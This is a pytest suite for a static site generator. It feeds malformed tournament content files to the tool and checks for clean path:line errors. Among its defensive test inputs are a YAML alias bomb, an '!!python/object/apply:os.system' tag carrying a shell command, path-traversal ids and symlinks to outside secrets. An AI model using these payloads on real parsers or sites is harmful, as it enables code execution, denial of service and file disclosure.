"""The README's promise, input by input: a clear `path:line` message, exit status 2, no traceback,
and the output of the last good build byte for byte as it was.

Each case starts from the valid site in `corpus_site.py` (built once into output/), changes a few
files, runs the commands and compares. Cases expected to pass (exit 0) say why they are acceptable.
"""
from __future__ import annotations

import os
import shutil
import signal
import traceback
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from corpus_site import FILES, snapshot, write
from unreadable import unreadable

from sitegen.cli.main import main

J, M, V = "events/j", "events/m", "events/v"
JR1, JR2, JE1 = f"{J}/round-1.yaml", f"{J}/round-2.yaml", f"{J}/elim-1.yaml"
MR1, VR1, VR2, VF = f"{M}/round-1.yaml", f"{V}/round-1.yaml", f"{V}/round-2.yaml", f"{V}/final.yaml"
JEV, MEV, VEV, SITE, PAGE = f"{J}/event.yaml", f"{M}/event.yaml", f"{V}/event.yaml", "site.yaml", "pages/about.md"
TIMEOUT = 10  # seconds a single command may take: an alias bomb used to hang for ever


@dataclass
class Case:
    name: str
    write: dict[str, str | bytes] = field(default_factory=dict)
    delete: tuple[str, ...] = ()
    mkdir: tuple[str, ...] = ()  # folders made where a file is expected (after `delete`)
    link: dict[str, tuple] = field(default_factory=dict)  # ("out", text) | ("outdir", files) | ("dangling",) | ("in", target)
    cmds: tuple = ("check", "build")  # also ("pair", J), ("standings", J), ("export", V)
    exit: int = 2
    at: tuple[str, int] | None = None  # (path relative to content/, line)
    msg: str = ""
    why_ok: str = ""  # for exit 0: why the input is acceptable
    kind: str = ""  # the corpus section, for counting


def sub(rel: str, old: str, new: str, count: int = 1) -> dict[str, str]:
    """FILES[rel] with `old` replaced: the corpus stays readable as one-line edits of a good file."""
    text = FILES[rel]
    assert text.count(old) >= count, (rel, old)
    return {rel: text.replace(old, new, count)}


def add(rel: str, extra: str) -> dict[str, str]:
    return {rel: FILES[rel] + extra}


BOMB = ('x: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi")))
CASES: list[Case] = []


def case(*args, **kwargs) -> None:
    CASES.append(Case(*args, kind=KIND, **kwargs))


# -- folders named like files --------------------------------------------------------------------
KIND = "folders named like files"
case("site.yaml is a folder", delete=(SITE,), mkdir=(SITE,), at=(SITE, 1), msg="is a folder, not a file")
case("page is a folder", mkdir=("pages/notes.md",), at=("pages/notes.md", 1), msg="is a folder, not a file")
case("event.yaml is a folder", delete=(JEV,), mkdir=(JEV,), at=(JEV, 1), msg="is a folder", cmds=("check", "build", ("pair", J)))
case("round file is a folder", mkdir=(f"{J}/round-3.yaml",), at=(f"{J}/round-3.yaml", 1), msg="is a folder", cmds=("check", "build", ("pair", J)))
case("melee round file is a folder", mkdir=(f"{M}/round-2.yaml",), at=(f"{M}/round-2.yaml", 1), msg="is a folder", cmds=("check", "build", ("pair", M)))
case("elim file is a folder", mkdir=(f"{J}/elim-2.yaml",), at=(f"{J}/elim-2.yaml", 1), msg="is a folder")
case("final.yaml is a folder", delete=(VF,), mkdir=(VF,), at=(VF, 1), msg="is a folder", cmds=("check", "build", ("export", V)))
case("vtes round file is a folder", delete=(VR2,), mkdir=(VR2,), at=(VR2, 1), msg="is a folder", cmds=("check", ("standings", V)))

# -- dangling symlinks -------------------------------------------------------------------------
KIND = "dangling symlinks"
for rel, cmds in [(SITE, ("check", "build")), (PAGE, ("check", "build")), (JEV, ("check", "build", ("pair", J))),
                  (JR2, ("check", "build", ("pair", J))), (MR1, ("check", "build", ("pair", M))),
                  (VR2, ("check", "build", ("pair", V))), (JE1, ("check", "build", ("standings", J))), (VF, ("check", "build", ("export", V)))]:
    case(f"dangling symlink {rel}", delete=(rel,), link={rel: ("dangling",)}, at=(rel, 1), msg="which does not exist", cmds=cmds)
case("dangling symlink as a new round file", link={f"{M}/round-2.yaml": ("dangling",)}, at=(f"{M}/round-2.yaml", 1), msg="does not exist", cmds=("check", ("pair", M)))
case("dangling symlink as the events folder", delete=(J, M, V, "events"), link={"events": ("dangling",)}, at=("events", 1), msg="does not exist")
case("dangling symlink as the pages folder", delete=(PAGE, "pages"), link={"pages": ("dangling",)}, at=("pages", 1), msg="does not exist")
case("dangling symlink as the theme folder", write=sub(SITE, "theme: default", "theme: mine"), link={"themes/mine": ("dangling",)},
     at=("themes/mine", 1), msg="does not exist")
case("dangling symlink as an event folder", link={"events/k": ("dangling",)}, at=("events/k", 1), msg="does not exist")

# -- symlinks that leave the content folder ----------------------------------------------------
KIND = "symlinks that leave the content folder"
OUT = "leads outside the content folder"
case("site.yaml links outside", delete=(SITE,), link={SITE: ("out", FILES[SITE])}, at=(SITE, 1), msg=OUT)
case("page links to a private file", link={"pages/secret.md": ("out", "SECRET password\n")}, at=("pages/secret.md", 1), msg=OUT)
case("page replaced by a link outside", delete=(PAGE,), link={PAGE: ("out", FILES[PAGE])}, at=(PAGE, 1), msg=OUT)
case("event.yaml links outside", delete=(JEV,), link={JEV: ("out", FILES[JEV])}, at=(JEV, 1), msg=OUT, cmds=("check", "build", ("pair", J)))
case("round file links outside", delete=(JR2,), link={JR2: ("out", FILES[JR2])}, at=(JR2, 1), msg=OUT, cmds=("check", "build", ("pair", J)))
case("melee round links outside", delete=(MR1,), link={MR1: ("out", FILES[MR1])}, at=(MR1, 1), msg=OUT)
case("elim file links outside", delete=(JE1,), link={JE1: ("out", FILES[JE1])}, at=(JE1, 1), msg=OUT)
case("final.yaml links outside", delete=(VF,), link={VF: ("out", FILES[VF])}, at=(VF, 1), msg=OUT, cmds=("check", "build", ("export", V)))
case("event folder links outside", link={"events/x": ("outdir", {k[len(J) + 1:]: v for k, v in FILES.items() if k.startswith(J + "/")})},
     at=("events/x", 1), msg=OUT, cmds=("check", "build", ("pair", "events/x")))
case("pages folder links outside", link={"pages": ("outdir", {"about.md": FILES[PAGE]})}, delete=(PAGE, "pages"), at=("pages", 1), msg=OUT)
THEME = {"templates/page.html": "{% extends \"base.html\" %}\n{% block main %}{{ body_html }}{% endblock %}\n"}
case("theme folder links outside", write=sub(SITE, "theme: default", "theme: mine"), link={"themes/mine": ("outdir", THEME)},
     at=("themes/mine", 1), msg=OUT)
case("theme template links outside", write=sub(SITE, "theme: default", "theme: mine"),
     link={"themes/mine/templates/page.html": ("out", THEME["templates/page.html"])}, at=("themes/mine/templates/page.html", 1), msg=OUT)
case("theme static file links outside", write=sub(SITE, "theme: default", "theme: mine") | {"themes/mine/static/x.css": "a{}\n"},
     link={"themes/mine/static/secret.txt": ("out", "SECRET\n")}, at=("themes/mine/static/secret.txt", 1), msg=OUT)
case("symlink inside content", link={"pages/alias.md": ("in", "about.md")}, exit=0,
     why_ok="the link stays inside the content folder: the TO's own file, published on purpose")
case("symlink loop in an event folder", link={f"{J}/loop": ("in", "loop")}, exit=0, cmds=("check", "build"),
     why_ok="a file of another name than event.yaml or a round is the TO's own, not content (a loop used to be a traceback)")
case("editor lock file", link={f"{J}/.#round-2.yaml": ("dangling",)}, exit=0,
     why_ok="names starting with '.' are editor lock and swap files, not content (Emacs makes dangling links like this)")

# -- empty files ---------------------------------------------------------------------------------
KIND = "empty files"
case("empty site.yaml", write={SITE: ""}, at=(SITE, 1), msg="site.yaml is empty")  # issue 29: it built "Tournaments"
case("empty page", write={PAGE: ""}, exit=0, why_ok="an empty page is a page still to be written")
case("empty event.yaml", write={JEV: ""}, at=(JEV, 1), msg="must be a block of 'key: value' lines", cmds=("check", "build", ("pair", J)))
case("empty joust round", write={JR2: ""}, at=(JR2, 1), msg="is not seated")
case("empty melee round", write={MR1: ""}, at=(MR1, 1), msg="is not seated", cmds=("check", "build", ("standings", M)))
case("empty vtes round", write={VR2: ""}, at=(VR2, 1), msg="is not seated")
case("empty final", write={VF: ""}, at=(VF, 1), msg="the final is one table", cmds=("check", "build", ("export", V)))
case("empty new round file", write={f"{M}/round-2.yaml": ""}, at=(f"{M}/round-2.yaml", 1), msg="is not seated")

# -- bytes that are not text -----------------------------------------------------------------------
KIND = "bytes that are not text"
for rel in (SITE, PAGE, JEV, MR1, VF, JE1):
    case(f"not UTF-8: {rel}", write={rel: FILES[rel].encode() + b"\xff\xfe caf\xe9\n"}, at=(rel, 1), msg="not UTF-8")
for rel, line in ((SITE, 2), (VEV, 2), (JR1, 2)):
    text = FILES[rel].splitlines(keepends=True)
    text[line - 1] = text[line - 1].replace(":", ": \x00", 1)
    case(f"NUL byte in {rel}", write={rel: "".join(text)}, at=(rel, line), msg="control character")
case("NUL byte in front matter", write=sub(PAGE, "title: About", "title: Ab\x00out"), at=(PAGE, 2), msg="control character")
case("escape character in a page's text", write=sub(PAGE, "Plain page.", "Plain \x1b[31mred\x1b[0m page."), at=(PAGE, 7), msg="control character")
case("NUL byte in a page without front matter", write={PAGE: "# About\n\nPlain\x00 page.\n"}, at=(PAGE, 3), msg="control character")

# -- YAML features content never needs ----------------------------------------------------------
KIND = "YAML features content never needs"
for rel in (SITE, JEV, MEV, VEV, JR1, MR1, VR1, JE1, VF):
    case(f"alias bomb in {rel}", write=add(rel, BOMB), at=(rel, FILES[rel].count("\n") + 1), msg="anchors and aliases",
         cmds=("check", "build") + ((("pair", rel.rsplit("/", 1)[0]),) if rel.startswith("events/") else ()))
case("alias bomb in front matter", write=sub(PAGE, "order: 1\n", "order: 1\n" + BOMB), at=(PAGE, 4), msg="anchors and aliases")
case("one anchor and alias", write=sub(JR2, "winner: ann", "winner: &w ann").popitem() and {JR2: FILES[JR2].replace("winner: ann", "winner: &w ann").replace("winner: ben", "winner: *w")},
     at=(JR2, 4), msg="anchors and aliases")
case("explicit tag", write=sub(JR2, "winner: ann", "winner: !!str ann"), at=(JR2, 4), msg="YAML tags")
case("python object tag", write=sub(SITE, "title: Corpus events", "title: !!python/object/apply:os.system [\"touch /tmp/pwned\"]"), at=(SITE, 1), msg="YAML tags")
case("timestamp tag with an impossible date", write=sub(JEV, "date: 2026-01-10", "date: !!timestamp 2026-02-30"), at=(JEV, 3), msg="YAML tags")

# -- YAML syntax -----------------------------------------------------------------------------------
KIND = "YAML syntax"
case("unclosed quote in site.yaml", write=sub(SITE, "title: Corpus events", 'title: "Corpus events'), at=(SITE, 1), msg="quote opens here and never closes")
case("unclosed quote in a round file", write=sub(JR1, "winner: ann", "winner: 'ann"), at=(JR1, 6), msg="never closes", cmds=("check", "build", ("pair", J)))
case("unclosed quote in event.yaml", write=sub(VEV, "name: Corpus VTES", 'name: "Corpus VTES'), at=(VEV, 1), msg="a quote opens here")
case("unclosed quote in front matter", write=sub(PAGE, "title: About us", 'title: "About us'), at=(PAGE, 2), msg="never closes")
case("unclosed flow list", write=sub(MR1, "[eve, fay, gus, hal]", "[eve, fay, gus, hal"), at=(MR1, 4), msg="YAML syntax error")
case("tab indentation", write=sub(JEV, "  - name: Ben", "\t- name: Ben"), at=(JEV, 9), msg="YAML syntax error")
case("key written twice", write=sub(VR1, "    vp:", "    players: [ida]\n    vp:"), at=(VR1, 4), msg="written twice")
case("key written twice in site.yaml", write=add(SITE, "title: Again\n"), at=(SITE, 5), msg="written twice")
case("a list instead of a mapping", write={JEV: "- name: Corpus Joust\n- format: agot-joust\n"}, at=(JEV, 1), msg="must be a block")
case("front matter that never ends", write={PAGE: "---\ntitle: About us\n\n# About\n"}, at=(PAGE, 1), msg="never ends")
case("front matter that is a list", write={PAGE: "---\n- about\n---\nBody\n"}, at=(PAGE, 1), msg="must be a block")
case("lists nested 20000 deep", write=add(JR2, "deep: " + "[" * 20000 + "]" * 20000 + "\n"), at=(JR2, 8), msg="nested more than")
case("mappings nested 3000 deep", write={MR1: "tables:\n  - " + "{a: " * 3000 + "1" + "}" * 3000 + "\n"}, at=(MR1, 2), msg="nested more than")
case("a key with a line break", write=add(JR2, '"x\\ny\\u0085z": 1\n'), at=(JR2, 8), msg="unknown key 'x\\ny\\x85z'")
case("a mapping as a key", write=add(JR2, "? {a: 1}\n: x\n"), at=(JR2, 8), msg="plain word or number")

# -- numbers that are not numbers ------------------------------------------------------------------
KIND = "numbers that are not numbers"
for rel, old, new, line in [(VR1, "ida: 2", "ida: .inf", 4), (VR1, "jon: 0", "jon: .nan", 4), (VF, "jon: 3", "jon: -.inf", 4),
                            (JR1, "cat: 12", "cat: .inf", 9), (MR1, "eve: 15", "eve: .NaN", 4), (JEV, "rounds: 2", "rounds: .inf", 4),
                            (MEV, "cut: 0", "cut: .nan", 5), (JR1, "minutes: 55", "minutes: .inf", 2), (VR2, "jon: 3", "jon: 1.0e+999", 4),
                            (JR1, "cat: 12", "cat: " + "9" * 5000, 9)]:
    case(f"{new[:16]} in {rel}", write=sub(rel, old, new), at=(rel, line), msg="not a number sitegen can use",
         cmds=("check", "build", ("standings", rel.rsplit("/", 1)[0])))

# -- ids ------------------------------------------------------------------------------------------
KIND = "ids"
BAD_ID = "not a valid id"
for value, msg in [("../../../../escape", BAD_ID), ("../standings", BAD_ID), ('"a\\0b"', BAD_ID), ("x" * 300, "at most 64"),
                   ("Ann", "write it as 'ann'"), ('"ann "', BAD_ID), ("5", "is not an id"), ('"5"', "bare number"), ("yes", "is not an id"),
                   ("2026-01-10", "bare number"), ("[ann]", "is not an id"), ("ann_1", BAD_ID), ("-ann", BAD_ID), ("ann--b", BAD_ID), ('"ünal"', BAD_ID)]:
    case(f"player id {value[:24]}", write=sub(JEV, "  - name: Ann\n", f"  - name: Ann\n    id: {value}\n"), at=(JEV, 8), msg=msg,
         cmds=("check", "build", ("pair", J)))
case("id from an emoji-only name", write=sub(MEV, "  - name: Hal", '  - name: "🎲🎲"'), at=(MEV, 10), msg="add an 'id: ...' line")
case("id from a name of punctuation", write=sub(VEV, "  - name: Max", '  - name: "???"'), at=(VEV, 11), msg="add an 'id: ...' line", cmds=("check", ("export", V)))
case("vtes player id traversal", write=sub(VEV, "  - name: Max\n", "  - name: Max\n    id: ../../max\n"), at=(VEV, 12), msg=BAD_ID)
case("melee player id upper case", write=sub(MEV, "  - name: Eve\n", "  - name: Eve\n    id: EVE\n"), at=(MEV, 8), msg="write it as 'eve'")
case("ids equal but for case", write=add(JEV, "  - name: ANN\n"), at=(JEV, 12), msg="duplicate player id 'ann'")
case("ids equal but for a trailing space", write=add(JEV, "  - name: 'Ann '\n"), at=(JEV, 12), msg="duplicate player id 'ann'")
case("name with accents", write=sub(JEV, "  - name: Dov", "  - name: Zoë Ünal\n    id: dov"), exit=0,
     why_ok="a name may be any text; the id is written out and safe")
case("name that slugifies safely", write=sub(JEV, "  - name: Dov", "  - name: ../../Dov"), exit=0, cmds=("check",),
     why_ok="the name becomes the safe id 'dov'; only ids reach paths")
for rel, old, new, line, msg in [
    (JR1, "[ann, ben]", "[ann, ../standings]", 5, "unknown player id '../standings'"),
    (JR1, "[ann, ben]", "[ann, Ben]", 5, "unknown player id 'Ben'; did you mean 'ben'?"),
    (JR1, "[ann, ben]", "[ann, 5]", 5, "unknown player id '5'"),
    (JR1, "winner: ann", "winner: 5", 6, "winner '5' is not at table 1"),
    (JR1, "winner: ann", "winner: Ann", 6, "winner 'Ann' is not at table 1"),
    (JR1, "winner: ann", "winner: 'ann '", 6, "winner 'ann ' is not at table 1"),
    (JR1, "winner: ann", "winner: ../../../../escape", 6, "is not at table 1"),
    (JR1, "winner: ann", "winner: [ann]", 6, "is not at table 1"),
    (JR1, "winner: ann", "winner: true", 6, "is not at table 1"),
    (JR1, "{cat: 12, dov: 9}", "{Cat: 12, dov: 9}", 9, "names 'Cat', who is not at table 2"),
    (JR2, "winner: ben", "winner: 'ben\\0'", 7, "is not at table 2"),
    (MR1, "winner: eve", "winner: 5", 5, "winner '5' is not at table 1"),
    (MR1, "eliminated: [hal]", "eliminated: [HAL]", 6, "HAL"),
    (MR1, "{eve: 15,", "{EVE: 15,", 4, "EVE"),
    (VR1, "{ida: 2,", "{IDA: 2,", 4, "IDA"),
    (VR1, "[ida, jon, kim, lev, max]", "[ida, jon, kim, lev, ../max]", 3, "unknown player id '../max'"),
    (JR2, "    winner: ben\n", "    winner: ben\nbyes: [Dov]\n", 8, "unknown player id 'Dov'"),
    (VF, "kim: 0}\n", "kim: 0}\nsitting_out: [5]\n", 5, "unknown player id '5'"),
]:
    case(f"round id {new.strip()[:30]} in {rel}", write=sub(rel, old, new), at=(rel, line), msg=msg,
         cmds=("check", "build", ("standings", rel.rsplit("/", 1)[0])))
for folder, msg in [("J", "write it as 'j'"), ("Winter Joust", "write it as 'winter-joust'"), ("2026", "bare number"),
                    ("x" * 100, "at most 64"), ("-j", BAD_ID), ("jöust", BAD_ID)]:
    case(f"event folder {folder[:20]}", write={f"events/{folder}/{k[len(J) + 1:]}": v for k, v in FILES.items() if k.startswith(J + "/")},
         at=(f"events/{folder}", 1), msg=msg, cmds=("check", "build", ("pair", f"events/{folder}")))
for page, msg in [("About.md", "write it as 'about'"), ("my page.md", "write it as 'my-page'"), ("2026.md", "bare number"),
                  ("p" * 100 + ".md", "at most 64"), ("ümlaut.md", BAD_ID), ("a_b.md", BAD_ID)]:
    case(f"page file name {page[:20]}", write={f"pages/{page}": FILES[PAGE]}, at=(f"pages/{page}", 1), msg=msg)
case("theme name traversal", write=sub(SITE, "theme: default", "theme: ../../etc"), at=(SITE, 3), msg=BAD_ID)
case("theme name upper case", write=sub(SITE, "theme: default", "theme: Default"), at=(SITE, 3), msg="write it as 'default'")
case("unknown theme", write=sub(SITE, "theme: default", "theme: nosuch"), at=(SITE, 3), msg="theme 'nosuch' not found", cmds=("check", "build"))

# -- dates and times -------------------------------------------------------------------------------
KIND = "dates and times"
for rel, old, new, line in [(JEV, "date: 2026-01-10", "date: 2026-02-30", 3), (JEV, "date: 2026-01-10", "date: next tuesday", 3),
                            (MEV, "date: 2026-02-14", "date: 2026-2-14", 3), (VEV, "date: 2026-03-21", "date: 2026-13-01", 3),
                            (VEV, "date: 2026-03-21", "date: 20260321", 3), (MEV, "date: 2026-02-14", "date: 14/02/2026", 3),
                            (JEV, "date: 2026-01-10", "date: 2026-01-10 10:00", 3)]:
    case(f"{new} in {rel}", write=sub(rel, old, new), at=(rel, line), msg="is not a date", cmds=("check", "build", ("pair", rel.rsplit("/", 1)[0])))
case("date as a list", write=sub(JEV, "date: 2026-01-10", "date: [2026, 1, 10]"), at=(JEV, 3), msg="must be a single value")
for new in ("start: 2026-02-30 14:00", "start: 2026-01-10 25:00", "start: tomorrow", "start: 2026-01-10"):
    case(f"{new}", write=sub(JR1, "start: 2026-01-10 10:00", new), at=(JR1, 1), msg="must be a local date and time")
case("start: 10:00", write=sub(JR1, "start: 2026-01-10 10:00", "start: 10:00"), at=(JR1, 1), msg="YAML readers read differently")
case("start with a T", write=sub(JR1, "start: 2026-01-10 10:00", "start: 2026-01-10T10:00"), exit=0, why_ok="ISO 8601's own spelling of the same time")
case("quoted date", write=sub(JEV, "date: 2026-01-10", 'date: "2026-01-10"'), exit=0, why_ok="the same date, quoted")

# -- empty values that used to mean "not given" ------------------------------------------------
KIND = 'empty values that used to mean "not given"'
NO_VALUE = "has no value"
for rel, old, new, line in [(JR2, "winner: ann", "winner:", 4), (JR1, "winner: ann", "winner: ", 6), (JR1, "power: {cat: 12, dov: 9}", "power:", 9),
                            (MR1, "winner: eve", "winner:", 5), (MR1, "eliminated: [hal]", "eliminated:", 6),
                            (VR1, "vp: {ida: 2, jon: 0, kim: 0, lev: 0.5, max: 1.5}", "vp:", 4), (VF, "vp: {jon: 3, ida: 2, lev: 0, max: 0, kim: 0}", "vp: ~", 4),
                            (JE1, "winner: ben", "winner: null", 4), (JEV, "cut: 2", "cut:", 5), (JEV, "rounds: 2", "rounds:", 4),
                            (MEV, "date: 2026-02-14", "date:", 3), (VEV, "rounds: 2", "rounds: 2\nfinal:", 5), (VEV, "rounds: 2", "rounds: 2\nmultideck:", 5),
                            (JEV, "    faction: Stark", "    faction:", 8), (JEV, "  - name: Ben", "  - name: Ben\n    joined:", 10),
                            (JR1, "minutes: 55", "minutes:", 2), (JR1, "start: 2026-01-10 10:00", "start:", 1), (JR2, "  - table: 1", "  - table:", 2)]:
    case(f"empty {new.strip()} in {rel}", write=sub(rel, old, new), at=(rel, line), msg=NO_VALUE, cmds=("check", "build", ("standings", rel.rsplit("/", 1)[0])))
for rel, old, new, line in [(JEV, "name: Corpus Joust", "name: ''", 1), (VEV, "name: Corpus VTES", "name: '   '", 1),
                            (MEV, "  - name: Eve", "  - name: ''\n    id: eve", 7), (PAGE, "title: About us", 'title: ""', 2)]:
    case(f"blank {new.split(chr(10))[0].strip()} in {rel}", write=sub(rel, old, new), at=(rel, line), msg=NO_VALUE)
case("blank league name", write={"leagues/season.yaml": "name: ' '\nevents: [j]\npoints: [3, 1]\n"}, at=("leagues/season.yaml", 1), msg=NO_VALUE)
case("blank name in players.yaml", write={"players.yaml": "players:\n  - {id: ann, name: ''}\n"}, at=("players.yaml", 2), msg=NO_VALUE)

# -- file names --------------------------------------------------------------------------------------
KIND = "file names"
case("round-01 beside round-1", write={f"{J}/round-01.yaml": FILES[JR1]}, at=(f"{J}/round-01.yaml", 1), msg="no leading zeros", cmds=("check", "build", ("pair", J)))
case("elim-01", write={f"{J}/elim-01.yaml": FILES[JE1]}, delete=(JE1,), at=(f"{J}/elim-01.yaml", 1), msg="unexpected file name")
case("round-0", write={f"{M}/round-0.yaml": FILES[MR1]}, at=(f"{M}/round-0.yaml", 1), msg="unexpected file name")
case("a .yml round file", write={f"{M}/round-2.yml": FILES[MR1]}, at=(f"{M}/round-2.yml", 1), msg="unexpected file name")
case("Round-3 in capitals", write={f"{J}/Round-3.yaml": FILES[JR2]}, at=(f"{J}/Round-3.yaml", 1), msg="unexpected file name")

case("news.MD", write={"pages/news.MD": FILES[PAGE]}, at=("pages/news.MD", 1), msg="rename it news.md")
case("round-3.YAML", write={f"{J}/round-3.YAML": FILES[JR2]}, at=(f"{J}/round-3.YAML", 1), msg="unexpected file name")
case("pages as a file", delete=(PAGE, "pages"), write={"pages": "notes\n"}, at=("pages", 1), msg="this is a file, but sitegen reads a folder")
case("events as a file", delete=(J, M, V, "events"), write={"events": "notes\n"}, at=("events", 1), msg="this is a file, but sitegen reads a folder")
case("leagues as a file", write={"leagues": "notes\n"}, at=("leagues", 1), msg="this is a file, but sitegen reads a folder")
case("a theme's templates as a file", write=sub(SITE, "theme: default", "theme: mine") | {"themes/mine/templates": "x\n"},
     at=("themes/mine/templates", 1), msg="this is a file, but sitegen reads a folder")

# -- front matter ------------------------------------------------------------------------------------
KIND = "front matter"
for old, new, line, msg in [("order: 1", "order: first", 3, "'order' must be a whole number"), ("order: 1", "order: 1.5", 3, "whole number"),
                            ("order: 1", "order: true", 3, "whole number"), ("order: 1", "order:", 3, "whole number"),
                            ("title: About us", "title: [a, b]", 2, "'title' must be a single line"), ("title: About us", "title:", 2, "single line"),
                            ("title: About us", "title: {a: 1}", 2, "single line"), ("title: About us", "tittle: About us", 2, "did you mean 'title'?")]:
    case(f"front matter {new}", write=sub(PAGE, old, new), at=(PAGE, line), msg=msg)
case("front matter after a byte order mark", write={PAGE: "\ufeff" + FILES[PAGE].replace("title: About us", "tittle: About us")}, at=(PAGE, 2),
     msg="did you mean 'title'?")
case("page without front matter", write={PAGE: "# About\n\nJust text.\n"}, exit=0, why_ok="front matter is optional")
case("front matter order as a number text", write=sub(PAGE, "title: About us", "title: 2026"), exit=0, why_ok="a title may be a number; it is shown as text")

# -- structure: the right key, the wrong shape -------------------------------------------------------
KIND = "structure: the right key, the wrong shape"
for rel, old, new, line, msg in [
    (JEV, "players:\n  - name: Ann\n    faction: Stark\n  - name: Ben\n  - name: Cat\n  - name: Dov\n", "players: ann\n", 6, "'players' must be a list"),
    (JEV, "players:\n  - name: Ann\n    faction: Stark\n  - name: Ben\n  - name: Cat\n  - name: Dov\n", "players: {}\n", 6, "'players' must be a list"),
    (MEV, "  - name: Eve", "  - [eve]", 7, "each player must be a block"),
    (MEV, "  - name: Eve", "  - faction: Stark", 7, "missing 'name'"),
    (MR1, "tables:\n", "tables: {a: 1}\nx:\n", 1, "'tables' must be a list"),
    (JR2, "  - table: 1\n", "  - [table, 1]\n  - table: 9\n", 2, "each table must be a block"),
    (JR2, "players: [ann, cat]", "players: ann", 3, "'players' must be a list of player ids"),
    (MR1, "power: {eve: 15, fay: 10, gus: 7, hal: 3}", "power: [15, 10, 7, 3]", 4, "'power' must map player ids"),
    (VR1, "vp: {ida: 2, jon: 0, kim: 0, lev: 0.5, max: 1.5}", "vp: [2, 0, 1, 1, 1]", 4, "'vp' must map player ids"),
    (VR1, "ida: 2,", "ida: two,", 4, "VP of 'ida' must be a number"),
    (JR2, "  - table: 1", "  - table: one", 2, "'table' must be a whole number"),
    (JR2, "  - table: 1", "  - table: 1:00", 2, "YAML readers read differently"),
    (JR2, "  - table: 1", "  - table: 010", 2, "YAML readers read differently"),
    (JR1, "minutes: 55", "minutes: 1:30", 2, "YAML readers read differently"),
    (JR1, "cat: 12", "cat: 1_2", 9, "YAML readers read differently"),
    (JR2, "  - table: 1", "  - table: 0", 2, "'table' must be a whole number"),
    (JEV, "rounds: 2", "rounds: 0", 4, "'rounds' must be a whole number from 1 to 99"),
    (JEV, "cut: 2", "cut: -2", 5, "'cut' must be a whole number"),
    (JEV, "cut: 2", "cut: 3", 5, "power of two"),
    (JR1, "minutes: 55", "minutes: 0", 2, "'minutes' must be a whole number from 1 to 1440"),
    (JR1, "minutes: 55", "minutes: 55.5", 2, "'minutes' must be a whole number"),
    (MEV, "format: agot-melee", "format: [agot-melee]", 2, "must be a single value"),
    (MEV, "format: agot-melee", "format: melee", 2, "unknown format 'melee'"),
    (SITE, "title: Corpus events", "title:\n  - a\n  - b", 1, "'title' must be a single value"),
    (SITE, "title: Corpus events", "title:", 1, "'title' has no value"),
    (SITE, "title: Corpus events", "title: ''", 1, "'title' has no value"),
    (JEV, "    faction: Stark", "    faction: [Stark, Lannister]", 8, "'faction' must be a single value"),
    (SITE, "title: Corpus events", "titel: Corpus events", 1, "did you mean 'title'?"),
    (SITE, "theme: default", "theme: [default]", 3, "'theme' must be a single value"),
    (VEV, "rounds: 2", "rounds: 2\nfinal: nope", 5, "'final' must be true or false"),
    (VEV, "rounds: 2", "rounds: 2\nfinal: 'false'", 5, "'final' must be true or false"),
    (JEV, "  - name: Ben", "  - name: Ben\n    joined: first", 10, "'joined' must be a whole number"),
    (JEV, "  - name: Ben", "  - name: Ben\n    dropped: -1", 10, "'dropped' must be a whole number"),
    (JEV, "  - name: Dov\n", "  - name: Dov\n  - name: Zed\n    joined: 99\n", 13, "'joined: 99' is after the event's last round"),
    (JEV, "  - name: Ben", "  - name: Ben\n    dropped: 999", 10, "'dropped: 999' is after the event's last round"),
    (JEV, "cut: 2", "cut: 2\navoid: [ann, ben]", 6, "each 'avoid' entry must be two different player ids"),
    (JEV, "cut: 2", "cut: 2\navoid:\n  - [ann, zed]", 7, "unknown player id 'zed'"),
    (JR1, "power: {cat: 12, dov: 9}", "power: {cat: 12, dov: 9, eve: 3}", 9, "who is not at table 2"),
    (JR1, "power: {cat: 12, dov: 9}", "power: {cat: 12.5, dov: 9}", 9, "power of 'cat' must be a whole number"),
    (MR1, "sitting_out: []", "sitting_out: eve", 7, "'sitting_out' must be a list"),
    (JR2, "    winner: ben\n", "    winner: ben\nbyes: dov\n", 8, "'byes' must be a list"),
    (VR2, "tables:", "round: 2\ntables:", 1, "unknown key 'round'"),
]:
    case(f"shape: {new.strip()[:30]} in {rel}", write=sub(rel, old, new), at=(rel, line), msg=msg)

# -- format rules the loader cannot know ------------------------------------------------------
KIND = "format rules"
case("joust elim-1 with no Swiss rounds", delete=(JR1, JR2), at=(JE1, 1), msg="elimination rounds come after all 2 Swiss rounds",
     cmds=("check", "build", ("pair", J)))
case("melee elim-1 with no Swiss rounds", write={f"{M}/elim-1.yaml": FILES[MR1].replace("sitting_out: []\n", "")} | sub(MEV, "cut: 0", "cut: 4"),
     delete=(MR1,), at=(f"{M}/elim-1.yaml", 1), msg="elimination rounds come after all 1 Swiss rounds")
case("rounds: 1 beside round-2.yaml", write={JEV: FILES[JEV].replace("rounds: 2", "rounds: 1").replace("cut: 2", "cut: 0")}, delete=(JE1,), at=(JR2, 1),
     msg="event.yaml says 'rounds: 1', and this is round 2", cmds=("check", "build", ("standings", J)))
case("rounds: 1 beside a melee round-2.yaml", write={f"{M}/round-2.yaml": FILES[MR1]}, at=(f"{M}/round-2.yaml", 1),
     msg="event.yaml says 'rounds: 1', and this is round 2", cmds=("check", "build", ("standings", M)))
case("rounds: 2 beside a vtes round-3.yaml", write={f"{V}/round-3.yaml": FILES[VR2]}, at=(f"{V}/round-3.yaml", 1),
     msg="event.yaml says 'rounds: 2', and this is round 3", cmds=("check", "build", ("standings", V), ("export", V)))
case("final.yaml in a joust event", write={f"{J}/final.yaml": FILES[JE1]}, at=(f"{J}/final.yaml", 1), msg="final.yaml",
     cmds=("check", "build", ("standings", J)))
case("two byes in a joust round", write={JR2: "tables:\n  - table: 1\n    players: [ann, cat]\n    winner: ann\nbyes: [ben, dov]\n"}, at=(JR2, 5),
     msg="bye")
case("byes in a melee round", write={MR1: FILES[MR1].replace("[eve, fay, gus, hal]", "[eve, fay, gus]").replace(", hal: 3", "")
                                     .replace("eliminated: [hal]", "eliminated: [gus]").replace("sitting_out: []", "byes: [hal]")},
     at=(MR1, 7), msg="Melee has no byes")
case("a bye beside a full joust round", write=sub(JR2, "    winner: ben\n", "    winner: ben\nbyes: []\n"), exit=0,
     why_ok="an empty 'byes' list is no bye")
case("vtes byes", write=sub(VR2, "    vp:", "    vp:").popitem() and {VR2: FILES[VR2] + "byes: []\n"}, exit=0, why_ok="an empty 'byes' list is no bye")
